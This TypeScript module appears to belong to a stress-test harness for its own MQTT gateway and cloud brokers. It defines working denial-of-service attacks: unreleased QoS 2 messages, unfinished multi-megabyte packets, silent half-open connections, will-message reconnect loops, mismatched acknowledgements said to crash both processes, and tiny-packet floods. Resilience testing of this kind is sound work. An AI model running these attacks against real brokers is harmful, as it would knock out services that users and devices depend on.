import { setTimeout as wait } from "node:timers/promises";
import type { Attack, Context, Target } from "../attack.ts";
import { topic } from "../payloads.ts";
import {
  connectRaw,
  during,
  openSocket,
  publication,
  publishAll,
  type RawClient,
  subscription,
} from "../raw-mqtt.ts";

const MIB = 1024 * 1024;
const portOf = ({ site }: Context, target: Exclude<Target, "both">): number =>
  site[target].mqttPort;

const withoutRelease = (target: Exclude<Target, "both">): Attack => ({
  name: `qos2-without-pubrel-${target}`,
  target,
  what: "QoS 2 messages whose second half never comes, over many connections",
  async run(context) {
    const payload = Buffer.alloc(64 * 1024, "2");
    let sent = 0;
    const deadline = performance.now() + context.amount(16_000);
    for (let session = 0; performance.now() < deadline; session++) {
      const client = await connectRaw(portOf(context, target), `half-${session % 20}`, {
        clean: false,
        username: "half",
      });
      for (let index = 1; index <= 100 && performance.now() < deadline; index++) {
        await client.send(
          publication(topic("half"), payload, { qos: 2, messageId: 1 + (sent % 65_000) }),
        );
        sent++;
      }
      await wait(20);
      client.close();
    }
    context.note(`${sent} messages of 64 KiB`);
  },
});
export const qos2AtGateway = withoutRelease("gateway");
export const qos2AtCloud = withoutRelease("cloud");

/** PUBLISH with an announced length, and all but the last bytes of it. */
const unfinished = (bytes: number): Buffer => {
  const length: number[] = [];
  for (let rest = bytes; rest > 0; rest = Math.floor(rest / 128))
    length.push((rest % 128) | (rest >= 128 ? 0x80 : 0));
  return Buffer.from([0x30, ...length, 0, 1, 0x78]);
};

const unfinishedPackets = (target: Exclude<Target, "both">): Attack => ({
  name: `unfinished-packets-${target}`,
  target,
  what: "hundreds of connections, each with a message of megabytes that does not end",
  async run(context) {
    const size = target === "cloud" ? 3.9 * MIB : 1.9 * MIB;
    const clients: RawClient[] = [];
    const connections = context.amount(500);
    for (let index = 0; index < connections; index++) {
      const client = await connectRaw(portOf(context, target), `unfinished-${index}`);
      void client.send(unfinished(Math.floor(size)));
      void client.send(Buffer.alloc(Math.floor(size) - 1024, "u"));
      clients.push(client);
      if (index % 16 === 0) await wait(10);
    }
    await wait(context.amount(6000));
    context.note(
      `${clients.filter(({ socket }) => !socket.destroyed).length} of ${connections} still open`,
    );
    for (const client of clients) client.close();
  },
});
export const unfinishedAtGateway = unfinishedPackets("gateway");
export const unfinishedAtCloud = unfinishedPackets("cloud");

/** Connections that say nothing: each costs a little, for as long as it may stay. */
export const silentConnections: Attack = {
  name: "silent-connections",
  target: "both",
  what: "thousands of connections without a CONNECT, and CONNECTs that stop half-way",
  light: true,
  async run({ site, amount, note }) {
    const count = amount(2400);
    const sockets = [];
    for (let index = 0; index < count; index++) {
      const port = index % 2 === 0 ? site.cloud.mqttPort : site.gateway.mqttPort;
      const socket = await openSocket(port);
      if (index % 3 === 0) socket.write(Buffer.from([0x10, 0x40, 0, 4, 0x4d]));
      sockets.push(socket);
    }
    await wait(amount(4000));
    const open = sockets.filter((socket) => !socket.destroyed && socket.readyState === "open");
    note(`${open.length} of ${count} still open`);
    for (const socket of sockets) socket.destroy();
  },
};

/** Each reconnect publishes the will of the one before: one name, a storm of statuses. */
export const willLoop: Attack = {
  name: "will-loop",
  target: "both",
  what: "reconnects under one name, each with a will, at both brokers",
  light: true,
  async run({ site, amount, note }) {
    const will = { topic: topic("loop", "status"), payload: Buffer.from('{"state":"offline"}') };
    let count = 0;
    const loop = (port: number) =>
      during(amount(12_000), async () => {
        const client = await connectRaw(port, "loop", {
          username: "loop",
          will: { ...will, qos: 1, retain: true },
        });
        void client.send(publication(will.topic, '{"state":"online"}', { qos: 1, retain: true }));
        client.close();
        count++;
      });
    await Promise.all(
      [site.gateway.mqttPort, site.cloud.mqttPort].flatMap((port) => [loop(port), loop(port)]),
    );
    note(`${count} connections`);
  },
};

/** A PUBREC in the place of a PUBACK, and then a session that begins anew, ended both processes. */
export const wrongAcknowledgements: Attack = {
  name: "wrong-acknowledgements",
  target: "both",
  what: "persistent sessions that answer QoS 1 with the packets of QoS 2, and begin anew",
  light: true,
  async run({ site, amount, note }) {
    const rounds = amount(40);
    let heard = 0;
    for (const [port, filter, message] of [
      [site.gateway.mqttPort, "house/#", ["house/bell", "ring"]],
      [site.cloud.mqttPort, "dcz/1/wrong/receipts", [topic("wrong"), "?"]],
    ] as const) {
      const sender = await connectRaw(port, "wrong-sender", { username: "wrong" });
      for (let round = 0; round < rounds; round++) {
        const name = `wrong-${round}`;
        const options = { clean: false, username: "wrong" };
        const away = await connectRaw(port, name, options);
        await away.send(subscription(filter));
        await away.answer("suback");
        away.close();
        await publishAll(sender, [message, message, message], { ms: 3000 });
        const back = await connectRaw(port, name, options);
        for (let tries = 0; tries < 50 && back.heardIds.length < 3; tries++) await wait(10);
        heard += back.heardIds.length;
        for (const messageId of back.heardIds) await back.send({ cmd: "pubrec", messageId });
        await back.answer("pubrel", 500);
        if (round % 2 === 0)
          for (const messageId of back.heardIds) await back.send({ cmd: "pubcomp", messageId });
        back.close();
        (await connectRaw(port, name, { username: "wrong" })).close();
      }
      sender.close();
    }
    note(`${2 * rounds} sessions, ${heard} messages answered wrongly`);
  },
};

/** Packets of two to four bytes: thousands of them are read in one turn. */
const tiny = {
  pingreq: Buffer.of(0xc0, 0),
  pubrel: Buffer.of(0x62, 2, 0, 9),
  puback: Buffer.of(0x40, 2, 0, 9),
  unsubscribe: Buffer.of(0xa2, 5, 0, 9, 0, 1, 0x61),
} as const;

/** Nobody is paced by what is not published. */
export const tinyPackets: Attack = {
  name: "tiny-packets",
  target: "both",
  what: "twenty clients that send the smallest packets there are, without a pause",
  light: true,
  async run({ site, amount, note }) {
    const kinds = Object.entries(tiny);
    let closed = 0;
    const work = async (port: number, index: number) => {
      const [name, bytes] = kinds[index % kinds.length] ?? ["pingreq", tiny.pingreq];
      const client = await connectRaw(port, `tiny-${name}-${index}`, { username: "tiny" });
      const some = Buffer.concat(Array.from({ length: 20_000 }, () => bytes));
      await during(amount(12_000), async () => {
        if (client.socket.destroyed) await wait(100);
        else await client.send(some);
      });
      if (client.socket.destroyed) closed += 1;
      client.close();
    };
    await Promise.all(
      Array.from({ length: 20 }, (_, index) =>
        work(index < 10 ? site.cloud.mqttPort : site.gateway.mqttPort, index),
      ),
    );
    note(`${closed} of 20 were closed`);
  },
};
